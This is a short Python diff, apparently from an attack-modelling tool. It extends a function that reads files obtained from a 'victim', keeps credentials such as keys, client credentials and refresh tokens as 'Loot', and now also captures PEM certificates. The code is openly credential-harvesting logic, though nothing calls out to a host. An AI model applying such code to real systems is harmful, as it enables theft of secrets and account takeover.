@@ -21,7 +21,10 @@ def leak(_victim: Victim) -> None:
 def take(access: Access) -> Iterable[Loot]:
     """Read every file that was given and keep what is a credential."""
     documents: dict[str, Any] = {}
+    certificate = None
     for name, content in access.files():
+        if content.startswith(b"-----BEGIN CERTIFICATE-----"):
+            certificate = content.decode()
         try:
             documents[name] = json.loads(content)
         except ValueError:
@@ -29,6 +32,7 @@ def take(access: Access) -> Iterable[Loot]:
     common = Loot(
         found_at=", ".join(sorted(documents)),
         key=documents.get("key.json"),
+        certificate=certificate,
         client_credential=documents.get("client.json"),
         refresh_token=documents.get("refresh_token.json"),
     )
